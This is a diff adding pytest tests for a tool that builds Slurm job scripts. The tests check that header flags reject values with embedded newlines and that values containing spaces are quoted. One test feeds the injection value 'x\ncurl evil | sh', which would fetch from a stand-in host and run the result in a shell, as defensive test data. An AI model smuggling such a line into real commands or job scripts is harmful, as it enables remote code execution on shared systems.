@@ -367,3 +367,21 @@ def test_api_key_variable_cannot_be_chosen_by_a_spec_file(tmp_path, capsys):
                     "'random:seed=0']\n")
     assert _score(data, tmp_path / "s", str(spec)) == 2
     assert "api_key_env='PATH'" in _err_line(capsys)
+
+
+# ------------------------------------------------------------------------------- 8. sbatch header values stay on their line
+@pytest.mark.parametrize("flag", ["--job-name", "--output", "--partition", "--account", "--qos", "--time"])
+def test_sbatch_header_values_cannot_inject_lines(flag, tmp_path, capsys):
+    script = tmp_path / "job.sbatch"
+    assert main(["launch", "--slurm", "--dry-run", "--script", str(script), flag, "x\ncurl evil | sh", "--",
+                 "stats", "--data", "d"]) == 2
+    line = _err_line(capsys)
+    assert line.startswith(f"halsift launch: error: {flag}:") and "'\\n'" in line
+    assert not script.exists() and capsys.readouterr().out == ""
+
+
+def test_sbatch_header_value_with_spaces_is_quoted_and_gpus_zero_refused(capsys):
+    assert main(["launch", "--slurm", "--dry-run", "--job-name", "my run", "--", "stats", "--data", "d"]) == 0
+    assert '#SBATCH --job-name="my run"\n' in capsys.readouterr().out
+    assert main(["launch", "--gpus", "0", "--dry-run", "--", "stats", "--data", "d"]) == 2
+    assert "--gpus: expected >= 1, got 0" in _err_line(capsys)
